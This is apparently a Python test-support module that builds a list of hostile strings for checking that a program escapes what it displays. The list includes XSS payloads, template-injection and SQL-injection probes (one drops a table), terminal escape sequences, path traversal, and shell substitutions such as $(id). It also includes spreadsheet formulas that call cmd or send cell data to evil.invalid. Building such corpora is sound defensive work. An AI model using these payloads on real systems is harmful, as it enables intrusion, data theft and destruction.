"""Strings that want to be run, rendered, obeyed or computed: of others (see `corpora/README.md`) and our own."""

import gzip
import json
from functools import cache
from itertools import product
from pathlib import Path

PWN = "window.__pwned=1"
_BREAKOUTS = [
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "]]>",
    "</code>",
    "</div>",
    "</title>",
    "</style>",
    "</script>",
    "</svg>",
    "</textarea>",
    "</noscript>",
    "<!--",
    "<![CDATA[",
    "*/",
    "\\",
    '\\"',
    "\u2028",
    "&#60;",
    "%3C",
    "\u226e",
    "\uff1c",
    "\r",
    "\t",
]
_RUNS = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    "<iframe srcdoc='<script>top.__pwned=1</script>'></iframe>",
    f"<a href='javascript:{PWN}'>x</a>",
    f"<details open ontoggle={PWN}>",
    f"<body onload={PWN}>",
    f"<input autofocus onfocus={PWN}>",
    f" onmouseover={PWN} x=",
    "<base href=http://evil.invalid/>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<img src=http://evil.invalid/pixel.png>",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    f"<math><mtext></form><form><mglyph><style><img src onerror={PWN}>",
    f"<foreignObject><iframe onload={PWN}></foreignObject>",
    "<object data=http://evil.invalid/x></object>",
    f"<template><script>{PWN}</script></template>",
    f"<form action=javascript:{PWN}><button autofocus>x</button></form>",
    f"}};{PWN};{{",
    f'"}}]}};{PWN}//',
]
_JSON = [
    "</script>",
    "<!--<script>",
    "\u2028",
    "\u2029",
    "\\u003c/script>",
    '"}],"schema":"x"',
    "__proto__",
    "constructor.prototype",
]
_CSS = [
    "x:expression(1)",
    "}body{background:url(http://evil.invalid/x)}",
    "url(javascript:1)",
    "\\3c script\\3e",
    "@charset 'x'",
]
_URLS = [
    f"javascript:{PWN}",
    f"JaVaScRiPt:{PWN}",
    f"java\tscript:{PWN}",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "//evil.invalid/x",
    "http://evil.invalid/",
    "file:///etc/passwd",
    "\\\\evil.invalid\\share",
    "blob:x",
    "view-source:x",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in y %}",
    "{0}",
    "{at}",
    "{count}",
    "{fault.__class__}",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "[[7*7]]",
    "[x{at}]",
    "@(7*7)",
    "$(7*7)",
    "`7*7`",
    "%(x)s",
    "[bold]x[/bold]",
    "[link=http://evil.invalid]x[/link]",
    "[/]",
    ":smile:",
    "[red on blue]x",
    "$\\frac{1}{2}$",
    "$x^2$",
]
_TERMINAL = [
    "\x1b[31m",
    "\x1b[2J",
    "\x1b[H",
    "\x1b]0;pwned\x07",
    "\x1b]8;;http://evil.invalid\x07x\x1b]8;;\x07",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b_x\x1b\\",
    "\x1b^x\x1b\\",
    "\x1bX",
    "\x1bc",
    "\x1b(0",
    "\x1b#8",
    "\x1b[6n",
    "\x1b[21t",
    "\x1b[?1049h",
    "\x9b31m",
    "\x9d0;x\x9c",
    "\x90x\x9c",
    "\x84",
    "\x85",
    "\x8d",
    "a\x08b",
    "\x7f",
    "\x00",
    "\x07",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x0f",
    "real\rfake",
    "x\r\x1b[Kfaultlog: all is well",
    "\u202egnp.exe",
    "\u202d",
    "\u2066x\u2069",
    "\u200f",
    "\u061c",
    "\u200b",
    "\u2028x",
    "\u2029x",
    "\ufeff",
    "\u00ad",
    "\U000e0041",
    "\ue000",
    "\ufff9x\ufffa",
    "\u115f",
    "\u3164",
    "e" + "\u0301" * 60,
]
_CELLS = [
    sign + formula
    for sign, formula in product(
        ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", '"=', "'=", ",=", ";=", "|=", "\u00a0="],
        [
            "1+1",
            "cmd|'/C calc'!A0",
            'HYPERLINK("http://evil.invalid?"&A1)',
            "DDE(1)",
            "SUM(A1:A9)",
            'IMPORTXML("http://evil.invalid")',
        ],
    )
]
_FORGED = [
    'x","level":"error","event":"login',
    '{"event":"request"}',
    "x 2026-03-03T12:00:00Z mac ampdaemon[7]: Fault Cleared: 6",
    '127.0.0.1 - - [03/Mar/2026] "GET / HTTP/1.1" 200',
    '\\n{"event":"x"}',
    "%0d%0aSet-Cookie: x=1",
    "\r\nx: y",
]
_SQL = [
    "' OR '1'='1",
    "'; DROP TABLE bundles;--",
    '" OR 1=1--',
    "1) UNION SELECT 1--",
    "%' AND 1=1 --",
    "\\'; x",
    "x%",
    "_",
    "*",
]
_PRINTF = ["%s%s%s%n", "%x%x", "%99999d", "%(x)s", "{:>9999999}", "{!r}", "%%", "%c", "$1", "\\0", "\\x41", "\\u0041"]
_PATHS = [
    "../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\x",
    "con",
    "nul.txt",
    "~root",
    "-rf",
    "--help",
    "$HOME",
    "`id`",
    "$(id)",
    "|id",
    ";id",
    "a&&b",
]


@cache
def others() -> tuple[str, ...]:
    """What others collected."""
    packed = Path(__file__).parent / "corpora" / "strings.json.gz"
    lists = json.loads(gzip.decompress(packed.read_bytes()))
    return (*lists["xss"], *lists["naughty"])


def our_own() -> tuple[str, ...]:
    """What was made for the places where this program shows texts."""
    made = [breakout + run for breakout, run in product(_BREAKOUTS, _RUNS)]
    rest = [_JSON, _CSS, _URLS, _TEMPLATES, _TERMINAL, _CELLS, _FORGED, _SQL, _PRINTF, _PATHS]
    made += [one for each in rest for one in each]
    made += [f"{shell}{one}" for shell in ("x ", "\"'><") for each in (_TERMINAL, _TEMPLATES, _JSON) for one in each]
    return tuple(made)


@cache
def strings() -> tuple[str, ...]:
    """All of them, each once, as they stand in a line."""
    lines = (one.replace("\n", " ").rstrip("\r") for one in (*our_own(), *others()))
    return tuple(dict.fromkeys(one for one in lines if one.strip("\0 \t\r\f\v")))


def names() -> tuple[str, ...]:
    """Some of every kind that a file, a host or a bundle may be called."""
    some = [*our_own()[::9], *_TERMINAL, *_TEMPLATES[::2], *_CELLS[::4], *_FORGED, *_SQL, *_PRINTF, *_PATHS]
    return tuple(dict.fromkeys(one.replace("/", "\u2215").replace("\0", "").replace("\n", " ")[:60] for one in some))
